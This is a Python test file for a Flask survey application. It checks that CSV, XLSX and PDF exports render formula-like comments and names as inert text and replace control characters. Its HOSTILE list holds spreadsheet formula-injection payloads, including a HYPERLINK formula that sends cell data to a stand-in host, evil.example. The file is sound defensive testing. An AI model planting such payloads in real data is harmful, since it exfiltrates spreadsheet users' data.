"""Exports are data, never formulas: comments, unit and service point names that start like a
spreadsheet formula arrive as inert text in the CSV and the XLSX, and a control character that
XLSX cannot hold never turns an export into an error. The files are read back as a user's
spreadsheet would read them."""
from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import sqlalchemy as sa
from flask import current_app
from openpyxl import load_workbook

from surveyapp.extensions import db
from surveyapp.models import Answer, Organisation
from surveyapp.reports.exports import FORMULA_START, inert
from surveyapp.seed import DEMO_PASSWORD

WIDE = {"from": (date.today() - timedelta(days=420)).isoformat(), "to": (date.today() + timedelta(days=1)).isoformat()}
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+1+2", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
CONTROL = "Góp ý\x01 có ký tự\x0b điều khiển"


def org(code) -> Organisation:
    return db.session.scalar(sa.select(Organisation).where(Organisation.code == code))


def hostile_world():
    """Comments, a commune's name and a service point's name as an attacker would write them."""
    answers = list(db.session.scalars(sa.select(Answer).where(Answer.text.is_not(None)).order_by(Answer.id)
                                      .limit(len(HOSTILE) + 1)))
    for answer, text in zip(answers, HOSTILE + [CONTROL]):
        answer.text = text
    commune = org("KA-TANPHU")
    assert commune.parent_id == org("KA").id
    commune.name = "=1+2"
    point = commune.service_points[0]
    point.name = "@Quầy\x01 tiếp nhận"
    db.session.commit()
    return commune, point


def test_inert_neutralises_every_formula_start_and_every_illegal_character():
    for text in HOSTILE:
        assert inert(text) == "'" + text
    assert inert("Bình thường") == "Bình thường" and inert(12) == 12 and inert(None) is None
    assert inert(CONTROL) == "Góp ý\ufffd có ký tự\ufffd điều khiển"
    assert inert("-ok", spreadsheet=False) == "-ok"


def test_csv_export_cells_are_inert_text(client, demo, auth):
    commune, point = hostile_world()
    assert auth.login("admin", DEMO_PASSWORD).status_code == 302
    r = client.get("/admin/export/responses.csv", query_string=WIDE)
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    comments = {row[-1] for row in rows[1:]}
    assert {"'" + text for text in HOSTILE} <= comments
    assert "Góp ý\ufffd có ký tự\ufffd điều khiển" in comments
    assert not [c for c in cells if "\x01" in c or "\x0b" in c]
    assert "'@Quầy\ufffd tiếp nhận" in {row[3] for row in rows[1:]}


def test_xlsx_and_pdf_exports_hold_no_formula_and_survive_control_characters(client, demo, auth):
    commune, point = hostile_world()
    assert auth.login("admin", DEMO_PASSWORD).status_code == 302
    for scope in ({}, {"org": commune.id}):
        r = client.get("/admin/export/report.xlsx", query_string={**WIDE, **scope})
        assert r.status_code == 200, r.status_code
        wb = load_workbook(io.BytesIO(r.data))
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_START)]
        values = {c.value for c in cells}
        assert ("'=1+2" if not scope else "'@Quầy\ufffd tiếp nhận") in values
        r = client.get("/admin/export/report.pdf", query_string={**WIDE, **scope})
        assert r.status_code == 200 and r.data.startswith(b"%PDF")


def test_report_command_csv_is_inert(app, demo):
    hostile_world()
    result = current_app.test_cli_runner().invoke(
        args=["report", "--org", "KA", "--from", WIDE["from"], "--to", WIDE["to"], "--format", "csv"])
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.output)) for c in row]
    assert "'=1+2" in cells and not [c for c in cells if c.startswith(FORMULA_START)]
